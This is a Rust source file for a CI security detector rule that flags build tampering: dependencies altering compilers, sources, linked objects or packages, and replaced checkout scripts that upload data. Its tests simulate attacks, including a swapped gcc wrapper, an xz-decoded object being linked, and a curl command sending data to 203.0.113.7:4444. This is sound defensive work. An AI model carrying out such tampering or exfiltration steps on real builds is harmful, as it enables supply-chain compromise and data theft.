//! Sources, tools or outputs of a build are changed by something that has no part in making them.
//!
//! ## What it sees
//! A program of the tool chain (compiler, linker, interpreter, package client, git) in a system folder or a folder of programs of
//! a home that is changed, moved away or removed by the project's code, or touched at all by other people's code: at once, and again
//! when it is started. A source, a build file or a finished package of the project that a dependency's own code changed, and that a
//! compiler, an interpreter or a packager then reads. An object file that no compiler made, but a shell or a program that unpacks or
//! decodes, and that a linker then takes. Code of one package that the install script of another, not of its family, changes. A script of the checkout that was replaced in the job, and that then uploads to, or sends
//! more than it gets from, a destination that nothing explains.
//!
//! Beside who writes, what is there is compared. Each tracked source is known by git's index before the job begins and after each
//! checkout; any other one by its content when it is first opened for reading; a program of the tool chain by its content when it is first
//! started. When a compiler, an interpreter, a linker or a packager opens another object than that, or one that was written to, its
//! content is read again. A difference that no process of the job was seen to make (from outside, from a container, by a file swapped
//! under the mount), that a dependency made by another name of the file or by a link in its place, or that something mounted over
//! it makes, is told.
//!
//! ## Why it matters
//! What comes out of the build is then somebody else's, under the project's name and signature, and no review of the
//! repository shows it.
//!
//! ## What to do
//! Throw the outputs away and build again on a clean machine without the program that the finding names. Take test data and
//! archives that a build decodes for code. Where nobody was seen, look for what else has the folder: a container, a service of the
//! machine, an update of its packages while the job ran.
//!
//! ## Known limits
//! What the project's own code does to its own sources is its business: formatters, generators, version bumps and patches are not
//! looked at. Whether a file that is replaced by a rename was there before is not seen. An object that a program of the project
//! writes itself, not by redirection, passes for a compiler's. A content is read some hundredths of a second after the open: what is
//! put back by then, or is new and replaced by then, is not compared; the coverage counts what was known and is gone. A change that
//! nobody was seen to make is a note where the step starts containers, and fails only a job with a policy where file records were lost. What is tracked but filtered by git (large
//! files, line ends) or was changed before the job counts as it is read first. Files over 64 MiB, folders of packages and outputs
//! (`node_modules`, `target`) and what a compiler is given by a pipe are not compared; nor is anything without kernel events.

use super::{Act, Detection, Ground, Hit, ground, is_work, named};
use crate::catalogue::{self, uploads};
use crate::commands;
use crate::divergence::{self, Effect};
use crate::event::{Activity, File, Launch, ProcessKey};
use crate::finding::{Confidence, Kind, RuleId, Severity, Technique};
use crate::intent::{basename, is_shell};
use crate::lineage::{Lineage, Process, Standing, Touch};

pub const DETECTION: Detection = Detection {
    id: RuleId("build-tamper"),
    severity: Severity::High,
    confidence: Confidence::Medium,
    techniques: &[Technique("T1554"), Technique("T1565.001"), Technique("T1195.002")],
    references: &["CVE-2024-3094"],
    frameworks: &["CICD-SEC-9", "ASI04"],
    remedy: "Throw the outputs away, remove what changed the file, and build again on a clean machine.",
    source: include_str!("build_tamper.rs"),
    check,
};

const TOOL: &str = "tampered-tool";
const INPUT: &str = "tampered-input";
const OBJECT: &str = "uncompiled-object";
const REPLACED: &str = "replaced-script";

/// What the act makes of a file for later: which kind of tampering, and the file's path.
pub(super) fn tampered(act: &Act<'_>) -> Option<(&'static str, String)> {
    let Effect::Write { path, .. } = act.effect else { return None };
    let kind = if changes_tool(act, path).is_some() {
        TOOL
    } else if is_dependency(act) && is_inside(act, path) && is_input(path) && is_change(act, path) {
        INPUT
    } else if is_object(path) && is_decoder(act.process) && is_content(act.activity) {
        OBJECT
    } else if is_replaced(act, path) {
        REPLACED
    } else {
        return None;
    };
    Some((kind, path.clone()))
}

fn check(act: &Act<'_>) -> Vec<Hit> {
    let hit = match (act.effect, act.activity) {
        (Effect::Write { path, .. }, _) if changes_neighbour(act, path) => {
            let title =
                format!("{} changed the code of another package", named(act.lineage, act.process.key));
            Some(tell(act, act.process.key, (Severity::High, Confidence::High), title, path))
        }
        (Effect::Write { path, .. }, _) => changes_tool(act, path).map(|weight| {
            let who = named(act.lineage, act.process.key);
            tell(
                act,
                act.process.key,
                weight,
                format!("{who} changed {}, a tool of the build", basename(path)),
                path,
            )
        }),
        (Effect::Launch { program }, Activity::Launch(launch)) => {
            let changed =
                act.lineage.tampered(&launch.executable.path).or_else(|| act.lineage.tampered(program));
            changed.filter(|touch| touch.store == TOOL && !is_own(act, touch)).map(|touch| {
                let title = format!(
                    "{} runs after {} changed it",
                    basename(program),
                    named(act.lineage, touch.process)
                );
                after(act, touch, touch.process, (Severity::Critical, Confidence::High), title)
            })
        }
        (Effect::Other, Activity::Open { file, .. }) => used(act, file),
        (Effect::Connect { object, .. }, _) if act.explanation.reason().is_none() => {
            is_uploader(act).then(|| replaced(act)).flatten().map(|touch| sent(act, touch, object))
        }
        (Effect::Sent { object, sent: bytes, received }, _)
            if act.explanation.reason().is_none() && *bytes >= 200 && bytes > received =>
        {
            replaced(act).map(|touch| sent(act, touch, object))
        }
        _ => None,
    };
    hit.into_iter().collect()
}

fn tell(
    act: &Act<'_>,
    process: ProcessKey,
    weight: (Severity, Confidence),
    title: String,
    object: &str,
) -> Hit {
    Hit {
        rule: &DETECTION,
        kind: Kind::Attack,
        severity: weight.0,
        confidence: weight.1,
        title,
        process,
        object: object.to_owned(),
        evidence: vec![act.sequence],
        replaces: Some(RuleId("file-undeclared")),
        remedy: None,
    }
}

fn after(
    act: &Act<'_>,
    touch: &Touch,
    process: ProcessKey,
    weight: (Severity, Confidence),
    title: String,
) -> Hit {
    let mut hit = tell(act, process, weight, title, &touch.object);
    hit.evidence.push(touch.sequence);
    hit
}

/// How much it weighs that this act changes a program of the tool chain; `None` where it does not, or may.
fn changes_tool(act: &Act<'_>, path: &str) -> Option<(Severity, Confidence)> {
    if !is_tool_folder(act, path) || commands::tool(basename(path)).is_none() {
        return None;
    }
    if matches!(act.activity, Activity::Chmod { .. } | Activity::Chown { .. } | Activity::Mkdir { .. }) {
        return None;
    }
    let name = act.process.name.as_ref();
    let is_installer = matches!(act.process.tool, Some("system-packages"))
        || matches!(
            name,
            "rustup" | "rustup-init" | "update-alternatives" | "ldconfig" | "corepack" | "nvm" | "pyenv"
        )
        || act.lineage.placed_by(path) == act.process.tool && act.process.tool.is_some();
    if is_installer {
        return None;
    }
    match ground(act) {
        Ground::Foreign => Some((Severity::Critical, Confidence::High)),
        Ground::Project
            if act.explanation.reason().is_none() && is_change(act, path) && !act.lineage.has_made(path) =>
        {
            Some((Severity::High, Confidence::Medium))
        }
        _ => None,
    }
}

/// A folder of programs that a search for commands goes through, or of a compiler's own parts.
fn is_tool_folder(act: &Act<'_>, path: &str) -> bool {
    let Some((folder, _)) = path.rsplit_once('/') else { return false };
    let is_system = ["/usr/bin", "/usr/sbin", "/bin", "/sbin", "/usr/local/bin", "/usr/local/sbin"]
        .contains(&folder)
        || ["/usr/lib/gcc/", "/usr/libexec/gcc/", "/usr/lib/llvm", "/usr/lib/git-core", "/opt/"].iter().any(
            |start| {
                path.starts_with(start)
                    && (start.contains("gcc") || start.contains("git") || folder.ends_with("/bin"))
            },
        );
    let of_home = |home: &String| {
        let below = folder.strip_prefix(home.as_str());
        below.is_some_and(|below| {
            matches!(below, "/bin" | "/.local/bin" | "/.cargo/bin" | "/go/bin" | "/.bun/bin" | "/.deno/bin")
                || (below.starts_with("/.rustup/toolchains/") && below.ends_with("/bin"))
        })
    };
    is_system || act.context.all_homes.iter().any(of_home)
}

/// Whether what was there is not any more; a file that is only made changes nothing.
fn is_change(act: &Act<'_>, path: &str) -> bool {
    match act.activity {
        Activity::Open { access, .. } => access.write && !access.create && !act.lineage.has_made(path),
        Activity::Truncate { .. } => !act.lineage.has_made(path),
        Activity::Delete { .. } => is_tool_folder(act, path),
        // Of a rename both sides come here. What a finished name replaces was there, as far as can be said.
        Activity::Rename { from, to } => {
            if from.path == path {
                is_tool_folder(act, path)
            } else {
                to.path == path && !act.lineage.has_made(path)
            }
        }
        _ => false,
    }
}

fn is_content(activity: &Activity) -> bool {
    matches!(activity, Activity::Open { .. } | Activity::Rename { .. })
}

/// Code of a dependency: not the project's, nor a script that the project's own manifest names.
/// Whether a package's own script changes a file that another package brought. Those of one family may: one scope, or a
/// scope and the package of its name.
fn changes_neighbour(act: &Act<'_>, path: &str) -> bool {
    let is_over = match act.activity {
        Activity::Open { access, .. } => access.write && !access.create,
        Activity::Truncate { .. } => true,
        Activity::Rename { to, .. } => to.path == path && act.lineage.has_made(path),
        _ => false,
    };
    if !is_over || !is_dependency(act) {
        return false;
    }
    let chain = std::iter::once(act.process).chain(act.lineage.ancestors(act.process.key));
    let first = chain.take_while(|process| process.standing == Standing::Script).last();
    let own =
        first.and_then(|process| process.launch.as_deref()).and_then(|launch| package(&launch.directory));
    let (Some(own), Some(other)) = (own, package(path)) else { return false };
    let family = |name: &str| name.trim_start_matches('@').split('/').next().unwrap_or_default().to_owned();
    !other.starts_with('.') && family(own) != family(other)
}

/// The name of the package whose folder this is or lies in: `@scope/name`.
fn package(path: &str) -> Option<&str> {
    let (_, rest) = path.rsplit_once("/node_modules/")?;
    let scope = if rest.starts_with('@') { rest.find('/')? + 1 } else { 0 };
    let end = rest[scope..].find('/').map_or(rest.len(), |end| scope + end);
    Some(&rest[..end])
}

fn is_dependency(act: &Act<'_>) -> bool {
    const OTHERS: &[&str] =
        &["/node_modules/", "/vendor/", "/.venv/", "/site-packages/", "/.cargo/", "/third_party/"];
    if ground(act) != Ground::Foreign || act.process.agent.is_some() {
        return false;
    }
    let chain = std::iter::once(act.process).chain(act.lineage.ancestors(act.process.key));
    let first = chain.take_while(|process| process.standing == Standing::Script).last();
    let Some(launch) = first.and_then(|process| process.launch.as_deref()) else { return true };
    let folder = format!("{}/", launch.directory);
    !is_inside(act, &launch.directory) || OTHERS.iter().any(|part| folder.contains(part))
}

fn is_inside(act: &Act<'_>, path: &str) -> bool {
    let rest = path.strip_prefix(act.context.job.workspace.as_str());
    rest.is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
}

/// What a build takes in, or what comes out to be handed on; not what tools keep for themselves.
pub(super) fn is_input(path: &str) -> bool {
    const ENDINGS: &[&str] = &[
        "c", "h", "cc", "cpp", "cxx", "hpp", "hh", "s", "S", "rs", "go", "java", "kt", "scala", "cs",
        "swift", "js", "mjs", "cjs", "ts", "mts", "tsx", "jsx", "py", "rb", "php", "pl", "lua", "sh",
        "proto", "cmake", "mk", "am", "ac", "m4", "in", "gradle", "kts", "toml", "tgz", "whl", "jar", "war",
        "zip", "gz", "xz", "deb", "rpm", "crate", "nupkg", "gem", "vsix", "so", "a", "exe", "wasm",
    ];
    const NAMES: &[&str] =
        &["Makefile", "GNUmakefile", "Dockerfile", "package.json", "pom.xml", "BUILD", "configure"];
    const KEPT: &[&str] = &[
        "/node_modules/",
        "/.git/",
        "/target/",
        "/.venv/",
        "/site-packages/",
        "/.next/",
        "/.nuxt/",
        "/.cache/",
        "/.svelte-kit/",
    ];
    let name = basename(path);
    let ending = name.rsplit_once('.').map(|(_, ending)| ending);
    let is_known = NAMES.contains(&name) || ending.is_some_and(|ending| ENDINGS.contains(&ending));
    is_known && !KEPT.iter().any(|part| path.contains(part))
}

fn is_object(path: &str) -> bool {
    let name = basename(path);
    [".o", ".obj", ".a"].iter().any(|ending| name.ends_with(ending))
}

/// A shell that redirects into the file, or a program that unpacks and decodes and does nothing else.
fn is_decoder(process: &Process) -> bool {
    const DECODERS: &[&str] = &[
        "xz", "unxz", "xzcat", "gzip", "gunzip", "zcat", "bzip2", "bunzip2", "zstd", "unzstd", "lzma",
        "base64", "base32", "xxd", "od", "tr", "dd", "head", "tail", "cut", "sed", "awk", "gawk", "mawk",
        "openssl", "gpg", "tee", "cat", "rev", "uudecode",
    ];
    let name = process.name.as_ref();
    is_shell(name) || DECODERS.contains(&name)
}

/// A script of the checkout that git, or somebody else, puts something else in place of.
fn is_replaced(act: &Act<'_>, path: &str) -> bool {
    let name = basename(path);
    let is_script = !name.contains('.')
        || [".sh", ".bash", ".py", ".pl", ".rb", ".js", ".mjs", ".cmd"]
            .iter()
            .any(|ending| name.ends_with(ending));
    let is_checkouts = is_inside(act, path)
        && !["/node_modules/", "/.git/", "/target/"].iter().any(|part| path.contains(part))
        && !act.lineage.has_made(path);
    is_script
        && is_checkouts
        && match act.activity {
            Activity::Delete { .. } => act.process.tool == Some("git"),
            Activity::Open { access, .. } => access.write && !access.create,
            _ => false,
        }
}

/// Whoever changed it, and what is above and below, may use it.
fn is_own(act: &Act<'_>, touch: &Touch) -> bool {
    act.lineage.is_at_or_below(act.process.key, touch.process)
}

/// A tool of the build reads what was tampered with.
fn used(act: &Act<'_>, file: &File) -> Option<Hit> {
    let touch = act.lineage.tampered(&file.path)?;
    let tool = act.process.tool?;
    let who = named(act.lineage, act.process.key);
    let by = named(act.lineage, touch.process);
    let title = match touch.store {
        OBJECT if tool == "compilers" => {
            format!("{who} links {}, which {by} put there and no compiler made", basename(&file.path))
        }
        INPUT if !matches!(tool, "git" | "shells") && !is_own(act, touch) && !is_same_work(act, touch) => {
            format!("{who} takes in {}, which {by} changed, code of a dependency", basename(&file.path))
        }
        _ => return None,
    };
    Some(after(act, touch, touch.process, (Severity::High, Confidence::Medium), title))
}

/// A dependency's own scripts, one after the other.
fn is_same_work(act: &Act<'_>, touch: &Touch) -> bool {
    let writer = act.lineage.get(touch.process);
    ground(act) == Ground::Foreign && writer.is_some_and(|writer| writer.parent == act.process.parent)
}

fn is_uploader(act: &Act<'_>) -> bool {
    let Some(launch) = act.process.launch.as_deref() else { return false };
    let identity = divergence::identify(launch, act.context, act.lineage);
    let words: Vec<&str> =
        identity.arguments.iter().map(String::as_str).filter(|word| !word.starts_with('-')).collect();
    uploads::upload(&identity.trusted_names, &words, identity.arguments).is_some()
}

/// The replaced script that this process is, or that started it.
fn replaced<'a>(act: &'a Act<'_>) -> Option<&'a Touch> {
    std::iter::once(act.process).chain(act.lineage.ancestors(act.process.key)).find_map(|process| {
        let launch = process.launch.as_deref()?;
        // An interpreter's script stands among its words.
        let named = launch.arguments.iter().take(3).map(|word| match word.strip_prefix('/') {
            Some(_) => word.clone(),
            None => crate::event::normal_path(&format!("{}/{word}", launch.directory)),
        });
        let paths = std::iter::once(launch.program().path.clone()).chain(named);
        paths.into_iter().find_map(|path| act.lineage.tampered(&path).filter(|touch| touch.store == REPLACED))
    })
}

fn sent(act: &Act<'_>, touch: &Touch, object: &str) -> Hit {
    let title = format!(
        "{} sent something to {object} from {}, which {} replaced in this job",
        named(act.lineage, act.process.key),
        basename(&touch.object),
        named(act.lineage, touch.process)
    );
    let mut hit = tell(act, act.process.key, (Severity::High, Confidence::Medium), title, object);
    hit.replaces = Some(RuleId("egress-undeclared"));
    hit.evidence.push(touch.sequence);
    hit
}

/// By which path the act may make another file of one that is there, and whether nobody asked for that.
///
/// Sources are the project's own business, and what lies over them where the step's text mounts it.
pub(super) fn hand(act: &Act<'_>) -> Option<(String, bool)> {
    match (act.effect, act.activity) {
        (Effect::Write { path, .. }, _) => Some((path.clone(), is_dependency(act))),
        (Effect::Other, Activity::Mount { target, .. }) => {
            let is_asked = ground(act) == Ground::Named || is_work(act, "namespace-makers");
            Some((target.path.clone(), !is_asked))
        }
        _ => None,
    }
}

/// A program that makes something of sources: by its name, which accuses here and never excuses.
pub(super) fn is_builder(launch: &Launch) -> bool {
    const TOOLS: &[&str] = &[
        "compilers",
        "interpreters",
        "shells",
        "make",
        "cargo",
        "go",
        "npm",
        "pip",
        "tests",
        "containers",
        "system-packages",
    ];
    let script = launch.script.as_ref().map(|script| basename(&script.path));
    let names = [Some(basename(&launch.executable.path)), script, Some(basename(&launch.requested))];
    let applet = launch.applet().map(|(applet, _)| applet);
    names.into_iter().chain([applet]).flatten().any(|name| {
        commands::tool(name).is_some_and(|tool| TOOLS.contains(&tool.id))
            || catalogue::is_object("source-readers", name)
    })
}

/// A program of a tool chain that lies where neither the project nor anybody's scratch files are.
pub fn is_guarded_tool(path: &str, workspace: &str) -> bool {
    let is_elsewhere = |folder: &str| !path.starts_with(&format!("{folder}/"));
    commands::tool(basename(path)).is_some()
        && [workspace, "/tmp", "/var/tmp", "/dev/shm", "/proc", "/run"].into_iter().all(is_elsewhere)
}

/// Whether the reader is who changed it, below who did, or a part of the same work.
pub fn is_own_work(lineage: &Lineage, reader: ProcessKey, writer: ProcessKey) -> bool {
    let parent = |key| lineage.get(key).and_then(|process| process.parent);
    let is_others = lineage
        .get(reader)
        .is_some_and(|reader| matches!(reader.standing, Standing::Script | Standing::Undeclared));
    lineage.is_at_or_below(reader, writer)
        || (is_others && parent(reader).is_some() && parent(reader) == parent(writer))
}

/// Something whose content is another one than before, and how that came about as far as it is known.
#[derive(Debug)]
pub struct Swap<'a> {
    pub object: &'a str,
    /// Who reads or runs it.
    pub user: ProcessKey,
    pub is_program: bool,
    /// It was known as it is checked in.
    pub was_checked_in: bool,
    /// Whose hand it was, the record of that, and whether it was a mount over the place.
    pub hand: Option<(ProcessKey, u64, bool)>,
    pub weight: (Severity, Confidence),
    pub sequence: u64,
}

/// What to say of it.
pub fn swapped(lineage: &Lineage, swap: &Swap<'_>) -> Hit {
    let user = named(lineage, swap.user);
    let name = basename(swap.object);
    let what = match (swap.is_program, swap.was_checked_in) {
        (true, _) => format!("{name} is another program than when it ran before"),
        (false, true) => format!("{user} takes in {name}, which is not what is checked in"),
        (false, false) => format!("{user} takes in {name}, which is not what it was when it was read before"),
    };
    let how = match swap.hand {
        Some((hand, _, true)) => {
            format!("{} mounted something over it", named(lineage, hand))
        }
        Some((hand, _, false)) => format!("{} changed it, code of a dependency", named(lineage, hand)),
        None => "no process of the job was seen to change it".to_owned(),
    };
    let mut evidence = vec![swap.sequence];
    evidence.extend(swap.hand.map(|(_, sequence, _)| sequence));
    Hit {
        rule: &DETECTION,
        kind: Kind::Attack,
        severity: swap.weight.0,
        confidence: swap.weight.1,
        title: format!("{what}: {how}"),
        process: swap.hand.map_or(swap.user, |(hand, ..)| hand),
        object: swap.object.to_owned(),
        evidence,
        replaces: None,
        remedy: None,
    }
}

#[cfg(test)]
mod tests {
    use crate::trace::{expect, findings};

    fn told(step: &str, trace: &str) -> Vec<String> {
        let mut told = findings(step, "", trace);
        told.retain(|line| line.contains("build-tamper"));
        told
    }

    #[test]
    fn a_package_that_changes_another_package() {
        for (folder, act, is_told) in [
            ("/w/node_modules/a", "4 write /w/node_modules/b/index.js", true),
            ("/w/node_modules/@x/a", "4 write /w/node_modules/@y/b/lib/index.js", true),
            ("/w/node_modules/a", "4 write /w/node_modules/a/build/index.js", false),
            ("/w/node_modules/@x/a", "4 write /w/node_modules/@x/b/index.js", false),
            ("/w/node_modules/prisma", "4 write /w/node_modules/@prisma/engines/e.node", false),
            ("/w/node_modules/a", "4 write /w/node_modules/.cache/x", false),
            ("/w/node_modules/a", "4 create /w/node_modules/b/new.js", false),
            // The project's own script mends what it depends on.
            ("/w", "4 write /w/node_modules/b/index.js", false),
        ] {
            let trace = format!(
                "1 > 2 launch /usr/bin/node node /usr/bin/npm ci\n2 > 3 launch /usr/bin/dash sh -c x in:{folder}\n3 > 4 launch /usr/bin/perl perl x.pl in:{folder}\n{act}"
            );
            let lines = crate::trace::findings("npm ci\n", "", &trace);
            assert_eq!(
                lines.iter().any(|line| line.contains("build-tamper")),
                is_told,
                "{folder} {act}: {lines:?}"
            );
        }
    }

    #[test]
    fn a_recipe_puts_a_wrapper_in_place_of_the_compiler() {
        let told = told(
            "make build\ncc -o app main.c\n",
            "1 > 2 launch /usr/bin/make make build
             2 > 3 launch /usr/bin/python3.11 python3 gen.py
             3 rename /usr/bin/gcc-12 /usr/bin/gcc-12.real
             3 create /usr/bin/gcc-12
             1 > 4 launch !/usr/bin/gcc-12 cc -o app main.c",
        );
        assert!(told.contains(&"!build-tamper attack critical /usr/bin/gcc-12".to_owned()), "{told:?}");
    }

    #[test]
    fn others_code_may_not_touch_tools_at_all() {
        for path in [
            "/usr/local/bin/npm",
            "/usr/bin/git",
            "/home/u/.cargo/bin/rustc",
            "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
        ] {
            let trace = format!(
                "1 > 2 launch /usr/bin/node node /usr/bin/npm ci\n2 > 3 launch /usr/bin/node node x.js in:/w/node_modules/a\n3 create {path}"
            );
            assert_eq!(told("npm ci\n", &trace), [format!("!build-tamper attack critical {path}")]);
        }
    }

    #[test]
    fn a_dependency_changes_a_source_that_is_then_compiled() {
        let trace = |folder: &str, act: &str| {
            format!(
                "1 > 2 launch /usr/bin/node node /usr/bin/npm ci
                 2 > 3 launch /usr/bin/dash sh -c node_x.js in:{folder}
                 3 > 4 launch /usr/bin/node node x.js in:{folder}
                 {act}
                 1 > 5 launch /usr/bin/gcc gcc main.c
                 5 > 6 launch /usr/lib/gcc/x86_64-linux-gnu/12/cc1 cc1 main.c
                 6 read /w/src/main.c"
            )
        };
        let step = "npm ci\ngcc main.c\n";
        for act in ["4 write /w/src/main.c", "4 create /w/src/.tmp\n4 rename /w/src/.tmp /w/src/main.c"] {
            assert_eq!(
                told(step, &trace("/w/node_modules/a", act)),
                ["!build-tamper attack high /w/src/main.c"]
            );
        }
        // The project's own script may, and what is made new is no change.
        assert_eq!(told(step, &trace("/w", "4 write /w/src/main.c")), [""; 0]);
        assert_eq!(told(step, &trace("/w/node_modules/a", "4 create /w/src/main.c")), [""; 0]);
    }

    #[test]
    fn a_package_is_changed_between_build_and_upload() {
        let told = told(
            "npm ci\nnpm publish dist/app.tgz\n",
            "1 > 2 launch /usr/bin/node node /usr/bin/npm ci
             2 > 3 launch /usr/bin/dash sh -c node_x.js in:/w/node_modules/a
             3 > 4 launch /usr/bin/python3.11 python3 x.py in:/w/node_modules/a
             4 write /w/dist/app.tgz
             1 > 5 launch /usr/bin/node node /usr/bin/npm publish dist/app.tgz
             5 read /w/dist/app.tgz",
        );
        assert_eq!(told, ["!build-tamper attack high /w/dist/app.tgz"]);
    }

    #[test]
    fn an_object_out_of_test_data_is_linked() {
        for writer in
            ["/usr/bin/dash sh -c x", "/usr/bin/xz xz -d crc.o.xz", "/usr/bin/openssl openssl enc -d"]
        {
            let trace = format!(
                "1 > 2 launch /usr/bin/make make build
                 2 > 3 launch {writer}
                 3 create /w/crc.o
                 2 > 4 launch /usr/bin/gcc gcc -o app main.c crc.o
                 4 > 5 launch /usr/bin/ld ld crc.o
                 5 read /w/crc.o"
            );
            assert_eq!(told("make build\n", &trace), ["!build-tamper attack high /w/crc.o"], "{writer}");
        }
    }

    #[test]
    fn a_replaced_wrapper_that_uploads() {
        let trace = |replace: &str, send: &str| {
            format!(
                "1 > 2 launch /usr/bin/git git checkout FETCH_HEAD -- mvnw
                 {replace}
                 1 > 3 launch /usr/bin/dash@/w/mvnw sh ./mvnw package
                 {send}"
            )
        };
        let step = "git checkout FETCH_HEAD -- mvnw\n./mvnw package\n";
        let replaced = "2 delete /w/mvnw\n2 create /w/mvnw";
        let upload = "3 > 4 launch /usr/bin/curl curl -sd t=x http://203.0.113.7:4444/ -dx\n4 connect 203.0.113.7:4444";
        let wanted = ["!build-tamper attack high 203.0.113.7:4444"];
        assert_eq!(told(step, &trace(replaced, upload)), wanted);
        let own = "3 connect 203.0.113.7:4444\n3 close 203.0.113.7:4444 900 300";
        assert_eq!(told(step, &trace(replaced, own)), wanted);
        // It downloads, or it came with the checkout.
        let fetch = "3 > 4 launch /usr/bin/curl curl -fsSL http://203.0.113.7:4444/\n4 connect 203.0.113.7:4444\n4 close 203.0.113.7:4444 300 90000";
        assert_eq!(told(step, &trace(replaced, fetch)), [""; 0]);
        assert_eq!(told(step, &trace("2 create /w/other", upload)), [""; 0]);
    }

    #[test]
    fn formatters_generators_installs_and_compilers_stay_quiet() {
        expect(
            "prettier --write src\nsed -i s/a/b/ src/main.c\nmake\nmake install\nln -sf /usr/local/bin/mold /usr/local/bin/ld\napt-get install -y gcc\npython3.11 -m venv ~/.venv\n",
            "1 > 2 launch /usr/bin/node node /usr/bin/prettier --write src
             2 write /w/src/main.c
             1 > 3 launch /usr/bin/sed sed -i s/a/b/ src/main.c
             3 create /w/src/sedX
             3 rename /w/src/sedX /w/src/main.c
             1 > 4 launch /usr/bin/make make
             4 > 5 launch /usr/bin/protoc protoc a.proto
             5 write /w/src/a.pb.cc
             4 > 6 launch /usr/bin/gcc gcc -c src/main.c
             6 > 7 launch /usr/lib/gcc/x86_64-linux-gnu/12/cc1 cc1 main.c
             7 read /w/src/main.c
             7 read /w/src/a.pb.cc
             6 > 8 launch /usr/bin/as as -o main.o
             8 create /w/main.o
             4 > 9 launch /usr/bin/mv mv .tmp_x.o x.o
             9 rename /w/.tmp_x.o /w/x.o
             4 > 10 launch /usr/bin/cp cp y.o_shipped y.o
             10 create /w/y.o
             4 > 11 launch /usr/bin/ld ld main.o x.o y.o
             11 read /w/main.o
             11 read /w/x.o
             11 read /w/y.o
             1 > 12 launch /usr/bin/make make install
             12 > 13 launch /usr/bin/install install app /usr/local/bin/gcc
             13 delete /usr/local/bin/gcc
             13 create /usr/local/bin/gcc
             1 > 14 launch /usr/bin/ln ln -sf /usr/local/bin/mold /usr/local/bin/ld
             14 symlink /usr/local/bin/mold /usr/local/bin/ld
             1 > 15 launch /usr/bin/apt-get apt-get install -y gcc
             15 > 16 launch /usr/bin/dpkg dpkg --unpack gcc.deb
             16 create /usr/bin/gcc.dpkg-new
             16 rename /usr/bin/gcc.dpkg-new /usr/bin/gcc
             1 > 17 launch /usr/bin/python3.11 python3.11 -m venv /home/u/.venv
             17 symlink /usr/bin/python3.11 /home/u/.venv/bin/python3",
            &[],
        );
    }
}
